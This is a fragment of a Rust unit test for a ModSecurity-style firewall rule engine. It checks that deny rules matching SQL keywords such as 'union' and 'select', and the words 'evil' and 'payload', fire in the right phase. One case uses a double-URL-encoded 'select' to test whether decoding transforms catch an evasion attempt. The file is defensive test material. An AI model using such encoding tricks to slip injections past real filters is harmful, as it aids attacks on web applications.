         SecRule ARGS|REQUEST_HEADERS:User-Agent \"@rx union\" \"id:1,phase:1,deny,status:401,t:none,t:lowercase\"\n\
         SecRule ARGS|REQUEST_HEADERS:User-Agent \"@rx select\" \"id:2,phase:1,deny,status:402,t:none,t:urlDecodeUni,t:lowercase\"\n\
         SecRule ARGS|REQUEST_HEADERS:User-Agent \"@rx evil\" \"id:3,phase:1,deny,status:403,t:none,t:lowercase\"\n\
         SecRule ARGS \"@rx payload\" \"id:4,phase:1,deny,status:404,t:none,t:lowercase\"\n\
         SecRule ARGS \"@rx payload\" \"id:5,phase:2,deny,status:405,t:none,t:lowercase\"\n",
    );
    let form = [("Content-Type", "application/x-www-form-urlencoded")];
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str, Option<u16>);
    let cases: [Case; 7] = [
        ("/?q=hello", &[("User-Agent", "curl")], "", None),
        // ARGS arrive decoded once: only a rule whose chain decodes again
        // sees `select`.
        ("/?q=%2573elect", &[("User-Agent", "curl")], "", Some(402)),
        ("/?q=%2575nion", &[("User-Agent", "curl")], "", None),
        // One target settled (ARGS), the other (the header) matching.
        ("/?q=hello", &[("User-Agent", "EVIL bot")], "", Some(403)),
        ("/?q=Union", &[("User-Agent", "evil")], "", Some(401)),
        // Phase 1 learns ARGS without the body; phase 2 must see it.
        ("/", &form, "a=PayLoad", Some(405)),
        ("/?a=payload", &form, "b=x", Some(404)),
    ];
    for (target, headers, body, expected) in cases {
        let method = if body.is_empty() { "GET" } else { "POST" };
        let (status, _) = verdict(&rules, request(method, target, headers, body));
        assert_eq!(status, expected, "{target} {headers:?} {body}");
    }
}
